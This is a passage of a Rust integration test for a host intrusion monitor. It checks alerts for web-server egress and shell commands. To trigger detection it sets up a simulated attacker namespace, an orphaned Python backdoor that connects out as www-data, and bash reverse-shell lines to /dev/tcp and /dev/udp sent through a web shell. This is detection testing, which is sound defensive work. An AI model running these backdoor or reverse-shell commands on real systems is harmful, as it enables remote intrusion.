    assert_eq!(incidents.len(), 1, "one php-fpm tree, one incident");
    // Normal traffic: the worker serving a page raises nothing.
    let body = http_get(24130, "/attack.php?connect=127.0.0.1&port=24130");
    assert!(body.contains("connected"), "{body}");
    m.drain_for(QUIET);
    assert_no_alert(
        &m.seen
            .iter()
            .filter(|v| v["process"]["pid"] == fpm.worker)
            .cloned()
            .collect::<Vec<_>>(),
        "webserver_egress",
        "for php-fpm's own loopback call",
    );
    let daemon = m.pid();
    m.stop();
    record(daemon, "webserver_shell_identity");
}

#[test]
fn reverse_shells_orphaned_backdoor_and_every_command() {
    if !privileged("reverse_shells_orphaned_backdoor_and_every_command") {
        return;
    }
    let scratch = Scratch::new("revshell");
    let policy = depth_test_policy(&scratch);
    let attacker = AttackerNs::create();
    let _tcp = attacker.listen(
        &scratch,
        "atk-tcp",
        "TCP4-LISTEN:443,bind=10.213.0.2,reuseaddr,fork",
    );
    let _udp = attacker.listen(&scratch, "atk-udp", "UDP4-RECV:4444,bind=10.213.0.2");
    poll("the attacker's listener", || {
        let out = Command::new("ip")
            .args(["netns", "exec", "mon-atk", "ss", "-Htln", "sport = :443"])
            .output()
            .ok()?;
        (!out.stdout.is_empty()).then_some(())
    });

    // A backdoor started as www-data and orphaned (its parent exits at once) BEFORE the monitor:
    // its /proc parent chain ends at pid 1.
    let trigger = scratch.path("go");
    let script = scratch.write(
        "backdoor.py",
        &format!(
            "import os, socket, time\n\
             while not os.path.exists('{t}'):\n    time.sleep(0.05)\n\
             socket.create_connection(('{ATTACKER}', 443), timeout=3).close()\n\
             socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('{ATTACKER}', 4444))\n\
             os.system('id >/dev/null')\n\
             time.sleep(1)\n",
            t = path_str(&trigger)
        ),
    );
    run_ok(Command::new("sh").arg("-c").arg(format!(
        "setpriv --reuid=33 --regid=33 --clear-groups /usr/bin/python3 {} >/dev/null 2>&1 &",
        path_str(&script)
    )));
    let backdoor = poll("the orphaned backdoor", || {
        let out = Command::new("pgrep")
            .args(["-f", path_str(&script)])
            .output()
            .ok()?;
        String::from_utf8_lossy(&out.stdout)
            .trim()
            .parse::<u32>()
            .ok()
    });
    struct Kill(u32);
    impl Drop for Kill {
        fn drop(&mut self) {
            unsafe { libc::kill(self.0 as libc::pid_t, libc::SIGKILL) };
        }
    }
    let _kill = Kill(backdoor);
    poll("the backdoor to be orphaned", || {
        let stat = fs::read_to_string(format!("/proc/{backdoor}/stat")).ok()?;
        let ppid: u32 = stat
            .rsplit(')')
            .next()?
            .split_whitespace()
            .nth(1)?
            .parse()
            .ok()?;
        (ppid != std::process::id()).then_some(())
    });

    let mut m = Monitor::start(&["--events", "--policy", path_str(&policy)]);
    fs::write(&trigger, "").expect("trigger");
    let python = path_str(&canonical(Path::new("/usr/bin/python3"))).to_owned();
    let by_backdoor = |v: &Value| v["process"]["pid"] == backdoor;
    let a = m.wait_for("the backdoor's TCP egress", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_egress") && by_backdoor(v) && v["socket"]["protocol"] == "tcp"
    });
    assert_alert_shape(&a);
    assert_eq!(a["web_server_via"], "user");
    assert_eq!(a["process"]["exe"], python);
    assert_eq!(a["process"]["user"], "www-data");
    assert_eq!(
        a["title"],
        format!(
            "Web server egress: {python} -> {ATTACKER}:443 (as www-data) [tool {python}: no port allowed]"
        )
    );
    let incident = a["incident"].clone();
    assert!(is_incident(&incident), "{a}");
    let a = m.wait_for("the backdoor's UDP egress", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_egress") && by_backdoor(v) && v["socket"]["protocol"] == "udp"
    });
    assert_eq!(
        a["title"],
        format!("Web server egress: {python} -> {ATTACKER}:4444/udp (as www-data)")
    );
    assert_eq!(a["incident"], incident);
    let a = m.wait_for("the backdoor's shell", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_shell") && v["ancestry"][0]["pid"] == backdoor
    });
    assert_eq!(a["web_server_via"], "user");
    assert_eq!(
        a["incident"], incident,
        "the backdoor's tree is one incident"
    );

    // Reverse shells through a web shell under php-fpm: to an allowed TCP port, and over UDP.
    let fpm = PhpFpm::start(&scratch);
    let _nginx = Nginx::start(&scratch, "127.0.0.1:24130", "127.0.0.1:9");
    let bash = exe_of("bash");
    web_shell(&format!("bash -c 'echo pwned >/dev/tcp/{ATTACKER}/443'"));
    let a = m.wait_for("a reverse shell to 443", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_egress") && ours(v) && v["socket"]["remote"]["port"] == 443
    });
    assert_alert_shape(&a);
    assert_eq!(a["process"]["exe"], bash);
    assert_eq!(a["web_server_via"], "lineage");
    assert_eq!(
        a["title"],
        format!(
            "Web server egress: {bash} -> {ATTACKER}:443 (descendant of {}) [shell {bash}: no port allowed]",
            fpm.comm()
        )
    );
    let web_incident = a["incident"].clone();
    assert!(is_incident(&web_incident));
    assert_ne!(web_incident, incident);
    web_shell(&format!("bash -c 'echo pwned >/dev/udp/{ATTACKER}/4444'"));
    let a = m.wait_for("a reverse shell over UDP", ALERT_TIMEOUT, |v| {
        is_alert(v, "webserver_egress") && ours(v) && v["socket"]["protocol"] == "udp"
    });
    assert_eq!(a["socket"]["remote"], json!({"ip": ATTACKER, "port": 4444}));
    assert_eq!(a["incident"], web_incident);
    // bash connects its /dev/udp socket: the record waited for connect(2) to return, so it names
    // the source address and port the kernel chose, and the flow has its Community ID.
    assert_eq!(a["socket"]["local"]["ip"], "10.213.0.1", "{a}");
    assert_ne!(a["socket"]["local"]["port"], 0, "{a}");
    assert_alert_shape(&a);
    assert!(a["community_id"].is_string(), "{a}");
    // php-fpm's own API call to 443 keeps its allowed port.
    let body = http_get(24130, &format!("/attack.php?connect={ATTACKER}&port=443"));
    assert!(body.contains("connected"), "{body}");
    m.wait_for("php-fpm's own connect", ALERT_TIMEOUT, |v| {
        is_event(v, "connect")
            && v["process"]["pid"] == fpm.worker
            && v["socket"]["remote"]["port"] == 443
    });

    // Every command is an alert; the same command twice is one alert, counted.
    web_shell("uname -a");
    web_shell("id -u");
    web_shell("id -u");
    m.drain_for(QUIET);
    let commands: Vec<&Value> = m
        .seen
        .iter()
        .filter(|v| is_alert(v, "webserver_shell") && ours(v))
        .collect();
    let argv_of = |cmd: &str| {
        commands
            .iter()
            .filter(|v| {
                v["process"]["argv"]
                    .as_array()
                    .is_some_and(|a| a.last() == Some(&json!(cmd)))
            })
            .count()
    };
    assert_eq!(argv_of("uname -a"), 1, "{commands:#?}");
    assert_eq!(argv_of("id -u"), 1, "{commands:#?}");
    assert!(argv_of(&format!("bash -c 'echo pwned >/dev/tcp/{ATTACKER}/443'")) == 1);
    for v in &commands {
        assert_eq!(v["incident"], web_incident);
    }
    assert_no_alert(
        &m.seen
            .iter()
            .filter(|v| v["process"]["pid"] == fpm.worker)
            .cloned()
            .collect::<Vec<_>>(),
        "webserver_egress",
        "for php-fpm's own call to an allowed port",
    );
    let daemon = m.pid();
    let status = m.stop();
    let counted = status["dedup"]["suppressed_by_key"]
        .as_object()
        .expect("suppressed_by_key")
        .iter()
        .filter(|(k, n)| k.starts_with("webserver_shell:") && k.contains("id -u") && **n == 1)
        .count();
    assert_eq!(counted, 1, "the repeat is counted: {status}");
    record(daemon, "webserver_reverse_shells");
}
